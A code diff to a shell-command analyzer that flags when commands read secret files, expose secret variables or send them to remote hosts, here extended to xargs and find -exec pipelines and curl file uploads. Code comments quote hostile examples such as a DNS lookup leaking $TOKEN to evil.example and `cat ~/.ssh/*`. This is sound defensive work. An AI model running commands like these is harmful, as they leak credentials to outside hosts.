@@ -14,6 +14,7 @@ import os
 from ..grammar.scan import scan
 from ..shell.paths import resolve as resolve_path
 from ..wildcard import match as wildcard_match
+from . import feed, words
 from .model import TAG_CLASS, Effect
 
 TYPE_CHECKING = False
@@ -41,9 +42,14 @@ def _fetched_package(spec: str) -> bool:
 class Line:
     """What earlier commands of the line did to the file system."""
 
-    __slots__ = ("links", "made", "piped", "remotes")
+    __slots__ = ("feed", "fetched_pipe", "links", "made", "output", "piped", "remotes")
 
     def __init__(self) -> None:
+        # Words flowing between commands (effects.feed): what the last command printed, what a
+        # filling wrapper hands to the command it runs, a download printed to the pipe.
+        self.output: list[str] | None = None
+        self.feed: list[str] | None = None
+        self.fetched_pipe: str | None = None
         # What the command feeding the current pipeline read: ("secret" | "data", what).
         self.piped: list[tuple[str, str]] = []
         self.made: dict[str, str] = {}  # absolute path -> "written" | "fetched"
@@ -80,6 +86,13 @@ class Context:
         self.classes = classes
         self.line = line
         self.home = os.path.expanduser("~")
+
+    def new_command(self, path: str) -> bool:
+        """A new program name right in a directory of programs on PATH (shell.paths)."""
+        from ..shell.paths import new_command
+
+        dirs = self.classes.shell.get("command_dirs", ())
+        return new_command(path, dirs, self.home, lambda name: self.view(name) is not None)
 
     def view(self, name: str) -> dict[str, Any] | None:
         view: dict[str, Any] | None = self.grammar.get(name)
@@ -134,6 +147,10 @@ class _Command:
     # -- roles ---------------------------------------------------------------------------
 
     def read(self, w: Word) -> None:
+        if feed.is_unseen(w.value):  # `xargs cat < LIST`: names the line does not show
+            source = feed.unseen_source(w.value)
+            self.add("read", f"reads the files named in {source}, unseen", "secret", ())
+            return
         hit = self.hit("secret", w.value)
         path = self.path(w.value)
         if not hit and path:  # through a link made earlier in the line
@@ -141,7 +158,7 @@ class _Command:
                 hit = self.ctx.classes.hit("secret", alias, None)
                 if hit:
                     break
-        if not hit and path and _has_glob(w.value):  # `cat ~/.ssh/*` reads what it matches
+        if not hit and path and words.has_glob(w.value):  # `cat ~/.ssh/*` reads what it matches
             hit = self.ctx.classes.glob_hits("secret", path)
         if not hit and self.recursive():
             where, cwd = self.locate(w.value)
@@ -153,7 +170,7 @@ class _Command:
     def printed(self, w: Word) -> None:
         """A word a command prints: a secret variable expanded into it is exposed (what a
         command substitution in it prints is judged as the command it is)."""
-        for name in _printed_variables(w.value):
+        for name in words.printed_variables(w.value):
             if self.ctx.classes.secret_variable(name):
                 self.add("read", f"prints ${name}", "secret", (w.value,))
                 return
@@ -196,7 +213,8 @@ class _Command:
 
     def write(self, w: Word, how: str = "written") -> None:
         path = self.path(w.value)
-        if path and os.path.isdir(path) and w.option is None and self.inv is not None:
+        is_dir = path and (os.path.isdir(path) or w.value.endswith("/"))
+        if is_dir and w.option is None and self.inv is not None:
             # `cp SRC... DIR`: what is written is DIR/basename(SRC) for each source.
             sources = [
                 x.value
@@ -207,6 +225,8 @@ class _Command:
                 self.wrote(
                     os.path.join(w.value, os.path.basename(src.rstrip("/"))), how, (w.value,)
                 )
+            if sources:
+                return
         self.wrote(w.value, how, (w.value,))
 
     def into(self, w: Word) -> None:
@@ -228,7 +248,7 @@ class _Command:
         path = self.path(word)
         for p in self.ctx.line.aliases(path) if path else [word]:
             hit = self.ctx.classes.written(p, self.cwd)
-            if hit:
+            if hit and not (hit[0] == "persistence" and self.ctx.new_command(p)):
                 cls, pattern = hit
                 self.add("write", f"writes {p} ({pattern})", cls, anchor)
                 break
@@ -319,12 +339,13 @@ class _Command:
         return None
 
     def contact(self, w: Word) -> None:
-        for name in _variables(w.value):  # `dig "$TOKEN.evil.example"`: the secret goes out
+        for name in words.variables(w.value):  # `dig "$TOKEN.evil.example"`: the secret goes out
             if self.ctx.classes.secret_variable(name):
                 self.add("send", f"sends ${name} to {w.value}", "secret-exfiltration", ())
                 return
-        if w.value.lower().startswith("file://"):  # a local read, however the URL is spelled
-            self.read(_word("read", w.value[7:] or "/", w))
+        value = words.unquote(w.value)
+        if value.lower().startswith("file://"):  # a local read, however the URL is spelled
+            self.read(_word("read", value[7:] or "/", w))
             return
         host = self.ctx.classes.metadata_host(w.value)
         if host:
@@ -362,8 +383,17 @@ class _Command:
             return
 
     def data(self, w: Word) -> None:
-        value = w.value
+        """Data sent with a request: a secret variable expanded into it goes out; `@FILE`
+        (`-F name=@FILE`, `--data-urlencode name@FILE`) sends the file."""
+        value = words.unquote(w.value)
+        if not self.loopback_only():
+            for name in words.variables(value):
+                if self.ctx.classes.secret_variable(name):
+                    self.add("send", f"sends ${name} to a host", "secret-exfiltration", ())
+                    return
         at = value.find("@") if w.option in ("-F", "--form") else (0 if value[:1] == "@" else -1)
+        if w.option == "--data-urlencode" and "=" not in value.partition("@")[0]:
+            at = value.find("@")  # `name@FILE`: the file's content, encoded
         if at >= 0 and value[at + 1 :].split(";", 1)[0] == "-":
             self.sends_stdin()
         elif at >= 0 and value[at + 1 :] not in ("", "-"):
@@ -408,6 +438,8 @@ class _Command:
 
     def role(self, w: Word) -> None:
         handler = _ROLES.get(w.role)
+        if feed.is_unseen(w.value) and w.role != "read":
+            return  # words read from a file the line does not show: judged as reads only
         if handler is not None:
             handler(self, w)
 
@@ -440,83 +472,6 @@ def _world_writable(mode: str) -> bool:
             elif ch == "w" and op in "+=" and op and ("o" in who or "a" in who):
                 return True
     return False
-
-
-def _has_glob(word: str) -> bool:
-    return any(c in word for c in "*?[")
-
-
-def _variables(word: str) -> list[str]:
-    """The names of `$NAME` / `${NAME}` expansions in a word's source text."""
-    names: list[str] = []
-    i = word.find("$")
-    while i >= 0:
-        j = i + 1
-        if word[j : j + 1] == "{":
-            j += 1
-        k = j
-        while k < len(word) and (word[k].isalnum() or word[k] == "_"):
-            k += 1
-        if k > j:
-            names.append(word[j:k])
-        i = word.find("$", k)
-    return names
-
-
-def _printed_variables(word: str) -> list[str]:
-    """The variables whose values a printed word shows: not those only tested or measured
-    inside it (`${#X}`, `${X:+set}`), nor those of a command substitution (`$(…)`, `…`), whose
-    commands are parts of the line of their own. An unbalanced substitution hides nothing."""
-    out: list[str] = []
-    text, i = word, 0
-    while i < len(text):
-        if text[i] == "\\":
-            i += 2
-            continue
-        if text.startswith("$((", i):
-            i += 3
-            continue
-        end = _substitution_end(text, i)
-        if end > i:
-            i = end
-            continue
-        if text.startswith("${#", i):
-            i += 3
-            continue
-        if text[i] != "$":
-            i += 1
-            continue
-        j = i + 1 + (text[i + 1 : i + 2] == "{")
-        k = j
-        while k < len(text) and (text[k].isalnum() or text[k] == "_"):
-            k += 1
-        braced = j > i + 1
-        if k > j and not (braced and text.startswith((":+", "+"), k)):
-            out.append(text[j:k])
-        i = max(k, i + 1)
-    return out
-
-
-def _substitution_end(text: str, i: int) -> int:
-    """Where a command substitution starting at text[i] ends, or i if none (or unbalanced)."""
-    if text.startswith("$(", i):
-        depth, k = 0, i + 1
-        while k < len(text):
-            ch = text[k]
-            if ch == "\\":
-                k += 2
-                continue
-            depth += (ch == "(") - (ch == ")")
-            k += 1
-            if depth == 0:
-                return k
-        return i
-    if text[i] == "`":
-        k = text.find("`", i + 1)
-        while k > 0 and text[k - 1] == "\\":
-            k = text.find("`", k + 1)
-        return k + 1 if k > 0 else i
-    return i
 
 
 def _word(role: str, value: str, like: Word) -> Word:
@@ -660,6 +615,7 @@ def resolve(
 ) -> list[Effect]:
     """The effects of one simple command; records its writes in the line state."""
     c = _Command(argv, cwd, ctx)
+    fed, ctx.line.feed = ctx.line.feed, None  # `{}` of a command xargs or find -exec runs
     stdin_file: list[tuple[str, str]] = []  # `< FILE`: what the command reads on stdin
     for r in redirects:
         if r.path is None:
@@ -681,6 +637,9 @@ def resolve(
         c.inv = scan(argv, c.view)
         if c.inv.no_effect(c.view):
             return c.effects  # a dry run or a check: what it reads is all it does
+        if fed:
+            c.inv.words = feed.fill(c.inv.words, fed)
+        feed.unpacked(c, stdin)
         for w in c.inv.words:
             if w.role == "dir":
                 c.cwd = resolve_path(w.value, c.cwd, ctx.home)
@@ -695,13 +654,14 @@ def resolve(
             _fetched(c)
         _links(c)
     else:
-        _unknown(c)
+        _unknown(c, fed)
     _env(c, env or {})
     if stdin_file and c.view is not None and c.view.get("sends_stdin"):
         saved, ctx.line.piped = ctx.line.piped, stdin_file
         c.sends_stdin()
         ctx.line.piped = saved
     _pipeline(c, stdin)
+    feed.carry(c, stdin, redirects)
     return c.effects
 
 
@@ -728,16 +688,19 @@ def no_effect(argv: list[str], ctx: Context) -> bool:
     return view is not None and scan(argv, view).no_effect(view)
 
 
-def _unknown(c: _Command) -> None:
+def _unknown(c: _Command, fed: list[str] | None) -> None:
     """A program without a grammar: its operands may be files it reads (`cat`, `less`); one
     that names a secret is taken for a secret read."""
     from ..grammar.scan import Word
 
+    operands = []
     for i, arg in enumerate(c.argv[1:], 1):
         if arg.startswith("-") and "=" in arg:
-            c.read(Word("read", arg.split("=", 1)[1], i, None))
+            operands.append(Word("read", arg.split("=", 1)[1], i, None))
         elif not arg.startswith("-"):
-            c.read(Word("read", arg, i, None))
+            operands.append(Word("read", arg, i, None))
+    for w in feed.fill(operands, fed) if fed else operands:
+        c.read(w)
 
 
 def _fetched(c: _Command) -> None:
